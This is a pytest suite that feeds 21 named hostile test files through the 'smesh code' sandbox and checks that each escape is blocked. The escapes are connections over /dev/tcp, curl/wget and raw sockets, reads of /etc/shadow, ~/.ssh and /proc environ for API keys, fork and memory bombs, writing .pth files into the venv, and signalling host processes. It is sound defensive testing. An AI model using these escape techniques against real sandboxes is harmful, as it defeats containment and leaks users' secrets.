"""Hostile generated tests try to get out of the ``smesh code`` sandbox: 21 named escapes.

Each case is a pytest file fed through :func:`smesh.sandbox.run_pytest`, the entry
point ``smesh code`` uses. Each asserts what the host can see for itself (a listener that
was reached, a file outside the project, a process that survived, a secret that leaked,
memory the host spent) and that the attempt really ran (the hostile test leaves a record
in its project directory, which comes back through the copy-back). The 12 escapes of
issue 10 (found-3) come first, then 9 more classic ones. Against the old sandbox (a
subprocess with rlimits and a socket monkeypatch) 18 of the 21 got out; only 13 (plain
connect), 14 (DNS) and 20 (environment) were blocked.

Without a working isolation layer these tests are skipped, and
``test_sandbox.py::test_here_generated_code_is_refused`` checks the refusal instead.
"""

from __future__ import annotations

import ast
import os
import subprocess
import tempfile
import time
import uuid
from pathlib import Path

import pytest
from _hostile import (
    Listener,
    dump,
    peak_rss_reset,
    processes_with,
    rss_kib,
    run_hostile,
)

import smesh
from smesh.sandbox import Limits, isolation
from smesh.sandbox.bwrap import python_roots

ISOLATION = isolation()
pytestmark = pytest.mark.skipif(
    not ISOLATION.available,
    reason=f"no sandbox on this machine ({ISOLATION.reason}); the refusal is tested instead",
)


def blocked(outcome: object) -> bool:
    return isinstance(outcome, str) and outcome.startswith("blocked")


# --- found-3: the 12 escapes that got through ------------------------------------------


def test_01_network_through_the_socket_module(tmp_path: Path) -> None:
    with Listener("tcp") as server:
        escape = run_hostile(
            tmp_path,
            f"""
            import _socket

            def test_escape():
                def go():
                    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
                    s.settimeout(3)
                    s.connect(("127.0.0.1", {server.port}))
                record(outcome=attempt(go))
            """,
        )
        time.sleep(0.2)
    assert server.contacts == 0, dump(escape)
    assert escape.record is not None and blocked(escape.record["outcome"]), dump(escape)


def test_02_udp_sendto(tmp_path: Path) -> None:
    with Listener("udp") as server:
        escape = run_hostile(
            tmp_path,
            f"""
            import socket

            def test_escape():
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                sent = [attempt(lambda: s.sendto(b"leak", ("127.0.0.1", {server.port})))
                        for _ in range(20)]
                record(outcome=sent[-1])
            """,
        )
        time.sleep(0.5)
    # sendto itself may succeed (the sandbox has its own loopback); nothing may arrive here
    assert server.contacts == 0, dump(escape)
    assert escape.record is not None, dump(escape)


def test_03_isolated_python_subprocess(tmp_path: Path) -> None:
    with Listener("tcp") as server:
        escape = run_hostile(
            tmp_path,
            f"""
            import subprocess

            def test_escape():
                code = "import socket; socket.create_connection(('127.0.0.1', {server.port}), 3)"
                done = subprocess.run([sys.executable, "-I", "-c", code], capture_output=True)
                record(returncode=done.returncode, stderr=done.stderr.decode()[-200:])
            """,
        )
        time.sleep(0.2)
    assert server.contacts == 0, dump(escape)
    assert escape.record is not None and escape.record["returncode"] != 0, dump(escape)


def test_04_bash_dev_tcp(tmp_path: Path) -> None:
    with Listener("tcp") as server:
        escape = run_hostile(
            tmp_path,
            f"""
            import subprocess

            def test_escape():
                cmd = "echo leak > /dev/tcp/127.0.0.1/{server.port}"
                done = subprocess.run(["bash", "-c", cmd], capture_output=True, timeout=10)
                record(returncode=done.returncode, stderr=done.stderr.decode()[-200:])
            """,
        )
        time.sleep(0.2)
    assert server.contacts == 0, dump(escape)
    assert escape.record is not None and escape.record["returncode"] != 0, dump(escape)


def test_05_write_outside_the_project(tmp_path: Path) -> None:
    name = f"smesh-escape-{uuid.uuid4().hex}"
    host_tmp = Path(tempfile.gettempdir()) / name
    beside = tmp_path / "beside.txt"
    escape = run_hostile(
        tmp_path,
        f"""
        import tempfile

        def test_escape():
            def system_tmp():
                path = os.path.join(tempfile.gettempdir(), {name!r})
                open(path, "w").write("escaped")
                return path
            def beside():
                open({str(beside)!r}, "w").write("escaped")
            record(system_tmp=attempt(system_tmp), beside=attempt(beside))
        """,
    )
    try:
        assert not host_tmp.exists(), dump(escape)
        assert not beside.exists(), dump(escape)
        # both writes ran: they failed, or landed in the sandbox's private /tmp (tmpfs)
        assert escape.record is not None and set(escape.record) == {"system_tmp", "beside"}
    finally:
        host_tmp.unlink(missing_ok=True)


def test_06_read_outside_the_project(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    canary = f"TOPSECRET-{uuid.uuid4().hex}"
    secret.write_text(canary)
    escape = run_hostile(
        tmp_path,
        f"""
        def test_escape():
            record(
                absolute=attempt(lambda: open({str(secret)!r}).read()),
                relative=attempt(lambda: open("../secret.txt").read()),
            )
        """,
    )
    assert escape.record is not None, dump(escape)
    assert blocked(escape.record["absolute"]) and blocked(escape.record["relative"]), dump(escape)
    assert canary not in dump(escape)


def test_07_parent_environment_through_proc(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    canary = f"sk-canary-{uuid.uuid4().hex}"
    monkeypatch.setenv("OPENAI_API_KEY", canary)
    monkeypatch.setenv("ANTHROPIC_API_KEY", canary)
    escape = run_hostile(
        tmp_path,
        """
        def test_escape():
            found = {}
            for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
                for what in ("environ", "cmdline"):
                    try:
                        found[f"{pid}/{what}"] = open(f"/proc/{pid}/{what}", "rb").read().decode(
                            errors="replace")
                    except OSError as exc:
                        found[f"{pid}/{what}"] = f"blocked: {exc}"
            record(ppid=os.getppid(), pids=sorted(found), found=found, env=dict(os.environ))
        """,
    )
    assert escape.record is not None, dump(escape)
    assert escape.record["found"], "the hostile test saw no process at all"
    assert canary not in dump(escape) and canary not in str(escape.record)
    # the sandbox's /proc holds only its own few processes, none of the host's
    assert len([p for p in escape.record["pids"] if p.endswith("/environ")]) <= 6


def test_08_fork_bomb_is_bounded(tmp_path: Path) -> None:
    escape = run_hostile(
        tmp_path,
        """
        import time

        def test_escape():
            children, error = [], ""
            for _ in range(200):
                try:
                    pid = os.fork()
                except OSError as exc:
                    error = f"blocked: {exc}"
                    break
                if pid == 0:
                    time.sleep(1)
                    os._exit(0)
                children.append(pid)
            record(forked=len(children), error=error)
            for pid in children:
                os.waitpid(pid, 0)
        """,
        processes=32,
    )
    assert escape.record is not None, dump(escape)
    assert escape.record["forked"] < 32 and blocked(escape.record["error"]), dump(escape)


@pytest.mark.slow
def test_09_setsid_grandchild_dies_with_the_sandbox(tmp_path: Path) -> None:
    marker = f"smesh-canary-{uuid.uuid4().hex}"
    escape = run_hostile(
        tmp_path,
        f"""
        import time

        def test_escape():
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sh", ["sh", "-c", "sleep 4; echo late > late.txt; sleep 60",
                                         {marker!r}])
                os._exit(0)
            record(started=True)
            time.sleep(30)
        """,
        timeout_s=2,
    )
    assert escape.run.timed_out, dump(escape)
    assert processes_with(marker) == [], "a grandchild survived the timeout"
    time.sleep(4.5)
    assert processes_with(marker) == [] and not (escape.project / "late.txt").exists()
    assert escape.record == {"started": True}


@pytest.mark.slow
def test_10_total_memory_of_three_children(tmp_path: Path) -> None:
    limits = Limits(timeout_s=60)
    escape = run_hostile(
        tmp_path,
        """
        import time

        def test_escape():
            children = []
            for _ in range(3):
                pid = os.fork()
                if pid == 0:
                    block = b"x" * (1 << 30)  # 1 GiB, touched
                    time.sleep(20)
                    os._exit(len(block) & 0)
                children.append(pid)
            for pid in children:
                os.waitpid(pid, 0)
            record(outcome="succeeded: three children held 3 GiB")
        """,
        timeout_s=limits.timeout_s,
    )
    # each child stays under the per-process cap; the total does not, and the host stops it
    assert escape.run.killed_by == "memory" and escape.record is None, dump(escape)
    assert "more than 2048 MiB" in escape.run.output


def test_11_total_disk(tmp_path: Path) -> None:
    escape = run_hostile(
        tmp_path,
        """
        def test_escape():
            chunk = b"x" * (1 << 20)
            def fill(path):
                with open(path, "wb") as fh:
                    for _ in range(60):
                        fh.write(chunk)
            outcomes = [attempt(lambda i=i: fill(f"big{i}.bin")) for i in range(3)]
            tmp = [attempt(lambda i=i: fill(f"/tmp/big{i}.bin")) for i in range(3)]
            for i in range(3):
                if os.path.exists(f"big{i}.bin"):
                    os.truncate(f"big{i}.bin", min(os.path.getsize(f"big{i}.bin"), 1 << 20))
            record(outcomes=outcomes, tmp=tmp)
        """,
    )
    assert escape.record is not None, dump(escape)
    disk, tmp = escape.record["outcomes"], escape.record["tmp"]
    limits = Limits()
    assert limits.disk_bytes < 3 * 60 * 2**20 and limits.tmp_bytes < 3 * 60 * 2**20
    assert sum(not blocked(o) for o in disk) <= 2 and "No space left" in disk[-1], dump(escape)
    assert sum(not blocked(o) for o in tmp) <= 1 and "No space left" in tmp[-1], dump(escape)
    total = sum(f.stat().st_size for f in escape.project.rglob("*") if f.is_file())
    assert total <= limits.disk_bytes


@pytest.mark.slow
def test_12_a_flood_on_stdout_does_not_grow_the_parent(tmp_path: Path) -> None:
    if not peak_rss_reset():
        pytest.skip("cannot reset the peak RSS (/proc/self/clear_refs) on this kernel")
    before = rss_kib("VmRSS")
    escape = run_hostile(
        tmp_path,
        """
        def test_escape():
            # pytest captures fd 1; write to the pipe it saved: the sandbox's real stdout
            pipes = []
            for fd in os.listdir("/proc/self/fd"):
                try:
                    if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                        pipes.append(int(fd))
                except OSError:
                    pass
            chunk = b"y" * (1 << 20)
            written = 0
            for _ in range(1200):
                written += os.write(pipes[0], chunk)
            record(pipes=pipes, written=written)
        """,
        timeout_s=60,
    )
    growth_mib = (rss_kib("VmHWM") - before) / 1024
    assert escape.record is not None and escape.record["written"] >= 1200 * 2**20, dump(escape)
    assert escape.run.output.startswith("[... ") and len(escape.run.output) < 4096
    assert growth_mib < 64, f"the parent grew by {growth_mib:.0f} MiB reading 1.2 GB"


# --- 9 more classic escapes (13, 14 and 20 were the ones the old sandbox blocked) -----


def test_13_plain_socket_connect(tmp_path: Path) -> None:
    with Listener("tcp") as server:
        escape = run_hostile(
            tmp_path,
            f"""
            import socket

            def test_escape():
                record(outcome=attempt(lambda: socket.create_connection(
                    ("127.0.0.1", {server.port}), timeout=3)))
            """,
        )
        time.sleep(0.2)
    assert server.contacts == 0 and escape.record is not None, dump(escape)
    assert blocked(escape.record["outcome"]), dump(escape)


def test_14_name_resolution_and_the_internet(tmp_path: Path) -> None:
    escape = run_hostile(
        tmp_path,
        """
        import socket

        def test_escape():
            record(
                dns=attempt(lambda: socket.getaddrinfo("example.com", 443)),
                direct=attempt(lambda: socket.create_connection(("1.1.1.1", 53), timeout=3)),
            )
        """,
    )
    assert escape.record is not None, dump(escape)
    assert blocked(escape.record["dns"]) and blocked(escape.record["direct"]), dump(escape)


def test_15_curl_and_wget_through_os_system(tmp_path: Path) -> None:
    with Listener("tcp") as server:
        escape = run_hostile(
            tmp_path,
            f"""
            def test_escape():
                url = "http://127.0.0.1:{server.port}/"
                record(
                    curl=os.system(f"curl -s -m 3 {{url}} >/dev/null 2>&1"),
                    wget=os.system(f"wget -q -T 3 -t 1 -O /dev/null {{url}} >/dev/null 2>&1"),
                )
            """,
        )
        time.sleep(0.2)
    assert server.contacts == 0 and escape.record is not None, dump(escape)
    assert escape.record["curl"] != 0 and escape.record["wget"] != 0, dump(escape)


def test_16_unix_sockets_of_the_host(tmp_path: Path) -> None:
    abstract = f"\0smesh-escape-{uuid.uuid4().hex}"
    with Listener("unix", abstract) as hidden, Listener("unix", str(tmp_path / "h.sock")) as path:
        escape = run_hostile(
            tmp_path,
            f"""
            import socket

            def connect(address):
                s = socket.socket(socket.AF_UNIX)
                s.settimeout(3)
                s.connect(address)

            def test_escape():
                record(
                    abstract=attempt(lambda: connect({abstract!r})),
                    path=attempt(lambda: connect({str(tmp_path / "h.sock")!r})),
                )
            """,
        )
        time.sleep(0.2)
    assert hidden.contacts == 0 and path.contacts == 0, dump(escape)
    assert escape.record is not None and blocked(escape.record["abstract"]), dump(escape)
    assert blocked(escape.record["path"]), dump(escape)


def test_17_writing_into_the_venv_and_the_source_tree(tmp_path: Path) -> None:
    import sysconfig

    site = Path(sysconfig.get_paths()["purelib"])
    source = Path(smesh.__file__).resolve().parent / "sandbox" / "box.py"
    name = f"zz_smesh_escape_{uuid.uuid4().hex}.pth"
    before = source.stat().st_mtime_ns
    escape = run_hostile(
        tmp_path,
        f"""
        def test_escape():
            def pth():
                open(os.path.join({str(site)!r}, {name!r}), "w").write("import os\\n")
            def src():
                open({str(source)!r}, "a").write("# owned\\n")
            record(pth=attempt(pth), src=attempt(src))
        """,
    )
    try:
        assert not (site / name).exists() and source.stat().st_mtime_ns == before
        assert escape.record is not None and blocked(escape.record["pth"]), dump(escape)
        assert blocked(escape.record["src"]), dump(escape)
    finally:
        (site / name).unlink(missing_ok=True)


def test_18_home_directory_secrets(tmp_path: Path) -> None:
    home = str(Path.home())
    escape = run_hostile(
        tmp_path,
        f"""
        def test_escape():
            record(
                ssh=attempt(lambda: os.listdir(os.path.join({home!r}, ".ssh"))),
                home=attempt(lambda: os.listdir({home!r})),
                shadow=attempt(lambda: open("/etc/shadow").read()),
                passwd=attempt(lambda: open("/etc/passwd").read()),
            )
        """,
    )
    assert escape.record is not None, dump(escape)
    for what in ("ssh", "shadow", "passwd"):
        assert blocked(escape.record[what]), (what, dump(escape))
    # the home directory shows at most the way to what the sandbox binds or mounts: the
    # Python installation (pyenv) and the project itself
    mounted = [*python_roots(), str(escape.project)]
    visible = {Path(p).relative_to(home).parts[0] for p in mounted if p.startswith(home + "/")}
    listed = escape.record["home"]
    assert blocked(listed) or set(ast.literal_eval(listed.split(": ", 1)[1])) <= visible, listed


def test_19_ctypes_raw_syscalls(tmp_path: Path) -> None:
    with Listener("tcp") as server:
        escape = run_hostile(
            tmp_path,
            f"""
            import ctypes, socket, struct

            def test_escape():
                libc = ctypes.CDLL(None, use_errno=True)
                fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
                address = struct.pack("!HH4s8x", 2, {server.port}, socket.inet_aton("127.0.0.1"))
                address = struct.pack("=H", 2) + address[2:]
                rc = libc.connect(fd, address, len(address))
                record(socket=fd, connect=rc, errno=ctypes.get_errno())
            """,
        )
        time.sleep(0.2)
    assert server.contacts == 0 and escape.record is not None, dump(escape)
    assert escape.record["socket"] >= 0 and escape.record["connect"] == -1, dump(escape)


def test_20_api_keys_and_proxies_in_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    canary = f"sk-canary-{uuid.uuid4().hex}"
    for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY", "HTTPS_PROXY"):
        monkeypatch.setenv(name, canary)
    escape = run_hostile(
        tmp_path,
        """
        def test_escape():
            record(env=dict(os.environ))
        """,
    )
    assert escape.record is not None, dump(escape)
    assert canary not in str(escape.record["env"]) and "HTTPS_PROXY" not in escape.record["env"]


def test_21_signalling_a_host_process(tmp_path: Path) -> None:
    victim = subprocess.Popen(["sleep", "60"])
    try:
        escape = run_hostile(
            tmp_path,
            f"""
            import signal

            def test_escape():
                record(
                    kill=attempt(lambda: os.kill({victim.pid}, signal.SIGKILL)),
                    parent=attempt(lambda: os.kill({os.getpid()}, 0)),
                )
            """,
        )
        time.sleep(0.2)
        assert victim.poll() is None, "the sandbox killed a host process"
        assert escape.record is not None, dump(escape)
    finally:
        victim.kill()
        victim.wait()
